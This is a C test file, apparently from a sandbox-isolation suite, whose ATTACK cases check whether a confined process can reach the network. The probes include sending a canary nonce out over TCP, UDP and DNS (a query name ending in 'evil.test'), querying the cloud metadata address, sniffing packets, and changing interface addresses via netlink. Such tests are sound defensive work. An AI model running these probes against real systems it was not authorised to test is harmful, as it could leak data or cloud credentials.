// Reaching the network, and being reached.
#include "attack.h"
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>

static struct sockaddr_in at(const char *text, int port) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, text, &address.sin_addr);
    return address;
}

static void tell(int fd) { must(send(fd, given("NONCE"), strlen(given("NONCE")), MSG_NOSIGNAL), "send"); }

static void connect4(int type, int protocol, const char *text, int port) {
    int fd = must(socket(AF_INET, type, protocol), "socket");
    struct sockaddr_in address = at(text, port);
    must(connect(fd, (struct sockaddr *)&address, sizeof address), "connect");
    tell(fd);
}

static void connect6(int type, const char *text) {
    int fd = must(socket(AF_INET6, type, 0), "socket");
    struct sockaddr_in6 address = {.sin6_family = AF_INET6, .sin6_port = htons(PORT)};
    inet_pton(AF_INET6, text, &address.sin6_addr);
    must(connect(fd, (struct sockaddr *)&address, sizeof address), "connect");
    tell(fd);
}

ATTACK(tcp_loopback) { connect4(SOCK_STREAM, 0, "127.0.0.1", PORT); }

ATTACK(tcp_any_address) { connect4(SOCK_STREAM, 0, "0.0.0.0", PORT); }

ATTACK(tcp_other_loopback) { connect4(SOCK_STREAM, 0, "127.9.9.9", PORT); }

ATTACK(tcp_host_address) { connect4(SOCK_STREAM, 0, "192.0.2.1", PORT); }

ATTACK(tcp_metadata_service) { connect4(SOCK_STREAM, 0, "169.254.169.254", 80); }

ATTACK(tcp_multipath) { connect4(SOCK_STREAM, 262, "192.0.2.1", 7778); }

ATTACK(tcp_fast_open) {
    int fd = must(socket(AF_INET, SOCK_STREAM, 0), "socket");
    struct sockaddr_in address = at("192.0.2.1", PORT);
    must(sendto(fd, given("NONCE"), strlen(given("NONCE")), MSG_FASTOPEN, (struct sockaddr *)&address, sizeof address), "sendto");
}

ATTACK(tcp6_loopback) { connect6(SOCK_STREAM, "::1"); }

ATTACK(tcp6_mapped) { connect6(SOCK_STREAM, "::ffff:192.0.2.1"); }

ATTACK(tcp6_host_address) { connect6(SOCK_STREAM, "2001:db8::1"); }

ATTACK(udp_host_address) { connect4(SOCK_DGRAM, 0, "192.0.2.1", PORT); }

ATTACK(udp6_host_address) { connect6(SOCK_DGRAM, "2001:db8::1"); }

ATTACK(udp_lite) { connect4(SOCK_DGRAM, 136, "192.0.2.1", PORT); }

ATTACK(udp_quic) { connect4(SOCK_DGRAM, 0, "192.0.2.1", 443); }

// A question whose name carries what should not leave.
static int question(unsigned char *into) {
    static const unsigned char head[] = {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
    unsigned char *at = into;
    memcpy(at, head, sizeof head);
    at += sizeof head;
    const char *labels[] = {given("NONCE"), "evil", "test"};
    for (int i = 0; i < 3; i++) {
        *at++ = strlen(labels[i]);
        at = (unsigned char *)stpcpy((char *)at, labels[i]);
    }
    memcpy(at, "\0\0\1\0\1", 5);
    return at + 5 - into;
}

ATTACK(dns_udp) {
    unsigned char bytes[512];
    int length = question(bytes), fd = must(socket(AF_INET, SOCK_DGRAM, 0), "socket");
    struct sockaddr_in address = at("192.0.2.1", 53);
    must(sendto(fd, bytes, length, 0, (struct sockaddr *)&address, sizeof address), "sendto");
}

ATTACK(dns_tcp) { connect4(SOCK_STREAM, 0, "192.0.2.1", 53); }

static void ping(int type) {
    int fd = must(socket(AF_INET, type, IPPROTO_ICMP), "socket");
    struct sockaddr_in address = at("192.0.2.1", 0);
    struct {
        struct icmphdr head;
        char text[16];
    } packet = {.head = {.type = ICMP_ECHO}, .text = "hello"};
    unsigned sum = 0;
    for (unsigned i = 0; i < sizeof packet / 2; i++) sum += ((uint16_t *)&packet)[i];
    sum = (sum >> 16) + (sum & 0xffff);
    packet.head.checksum = ~(sum + (sum >> 16));
    must(sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&address, sizeof address), "sendto");
    struct pollfd answer = {fd, POLLIN, 0};
    if (poll(&answer, 1, 500) == 1) worked("the machine answers an echo request");
}

ATTACK(icmp_datagram) { ping(SOCK_DGRAM); }

ATTACK(icmp_raw) { ping(SOCK_RAW); }

ATTACK(packet_socket) {
    int fd = must(socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL)), "socket");
    struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = 1};
    must(bind(fd, (struct sockaddr *)&address, sizeof address), "bind");
    struct pollfd packet = {fd, POLLIN, 0};
    // Something always passes: the canary's keepers talk by the loopback.
    poll(&packet, 1, 1);
    worked("the packets of others are seen");
}

static int netlink(void) { return must(socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE), "socket"); }

ATTACK(netlink_addresses) {
    int fd = netlink();
    struct {
        struct nlmsghdr head;
        struct rtgenmsg body;
    } request = {{.nlmsg_len = sizeof request, .nlmsg_type = RTM_GETADDR, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP}, {AF_INET}};
    must(send(fd, &request, sizeof request, 0), "send");
    char bytes[8192];
    ssize_t length = must(recv(fd, bytes, sizeof bytes, 0), "recv");
    static const unsigned char host[] = {192, 0, 2, 1};
    if (memmem(bytes, length, host, sizeof host)) worked("the addresses of the machine are told");
}

ATTACK(netlink_change) {
    int fd = netlink();
    struct {
        struct nlmsghdr head;
        struct ifaddrmsg body;
        struct rtattr attribute;
        unsigned char address[4];
    } request = {{.nlmsg_len = sizeof request, .nlmsg_type = RTM_NEWADDR,
                  .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE},
                 {.ifa_family = AF_INET, .ifa_prefixlen = 32, .ifa_index = 1},
                 {.rta_len = sizeof(struct rtattr) + 4, .rta_type = IFA_LOCAL},
                 {198, 51, 100, 1 + getpid() % 200}};
    must(send(fd, &request, sizeof request, 0), "send");
    struct {
        struct nlmsghdr head;
        struct nlmsgerr body;
    } answer;
    must(recv(fd, &answer, sizeof answer, 0), "recv");
    errno = -answer.body.error;
    if (answer.body.error) failed("RTM_NEWADDR");
    worked("the addresses of the machine can be changed");
}

ATTACK(socket_virtual_machine) {
    must(socket(40 /* AF_VSOCK */, SOCK_STREAM, 0), "socket");
    worked("a socket to the hypervisor");
}

ATTACK(netlink_sockets) {
    must(socket(AF_NETLINK, SOCK_RAW, 4 /* NETLINK_SOCK_DIAG */), "socket");
    worked("a list of the sockets can be asked for");
}

ATTACK(netlink_devices) {
    must(socket(AF_NETLINK, SOCK_RAW, 15 /* NETLINK_KOBJECT_UEVENT */), "socket");
    worked("the events of the machine's devices are told");
}

// Somebody outside asks at the port for as long as the attack runs.
static void wait_for_caller(int family) {
    int fd = must(socket(family, SOCK_STREAM, 0), "socket"), on = 1;
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    struct sockaddr_in v4 = at("0.0.0.0", number("LISTEN"));
    struct sockaddr_in6 v6 = {.sin6_family = AF_INET6, .sin6_port = htons(number("LISTEN")), .sin6_addr = in6addr_any};
    if (family == AF_INET) must(bind(fd, (struct sockaddr *)&v4, sizeof v4), "bind");
    else must(bind(fd, (struct sockaddr *)&v6, sizeof v6), "bind");
    must(listen(fd, 1), "listen");
    struct pollfd caller = {fd, POLLIN, 0};
    if (poll(&caller, 1, 400) == 1) worked("somebody outside has connected");
}

ATTACK(listen_everywhere) { wait_for_caller(AF_INET); }

ATTACK(listen_everywhere6) { wait_for_caller(AF_INET6); }
